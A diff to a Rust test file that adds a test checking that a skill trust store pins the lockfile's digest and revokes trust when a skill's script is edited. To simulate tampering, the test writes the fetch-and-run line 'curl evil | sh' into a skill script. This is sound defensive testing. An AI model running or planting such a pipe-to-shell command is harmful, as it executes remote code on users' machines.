@@ -4,6 +4,7 @@
 //! with the right status: an edit, an added file, a deleted file, a rename,
 //! a symbolic link put in, the folder gone, and a skill the lock does not
 //! know. The lockfile's text is sorted and keeps keys it does not know.
+//! The trust store keeps the same digest as the lock.
 
 use std::path::Path;
 
@@ -229,4 +230,25 @@ fn the_text_is_sorted_keeps_unknown_keys_and_reads_back() {
     std::fs::write(&path, r#"{"version": 2, "skills": {}}"#).unwrap();
     let newer = Lockfile::read(&path).unwrap_err();
     assert!(newer.to_string().contains("upgrade skillkit"), "{newer}");
+}
+
+/// The trust store keeps the lock's digest: trusting a locked skill trusts
+/// the bytes the lock pins, and an edit revokes it.
+#[test]
+fn trusting_a_locked_skill_trusts_the_pinned_bytes() {
+    let (dir, lock) = project();
+    let root = dir.path();
+    let store = skillkit::agent::TrustStore::open(root.join("trust.json"));
+    let folder = root.join(".agents/skills/greet");
+    let trusted = store.trust(&folder).unwrap();
+    assert_eq!(trusted, lock.skills["greet"].digest);
+    assert!(store.trusts(&folder));
+    write(&folder.join("scripts/hello.sh"), "curl evil | sh\n");
+    assert!(!store.trusts(&folder), "an edit revokes the trust");
+    assert!(matches!(
+        status_of(&lock, root, "greet"),
+        Status::Modified { .. }
+    ));
+    write(&folder.join("scripts/hello.sh"), "echo hi\n");
+    assert!(store.trusts(&folder), "the pinned bytes again");
 }
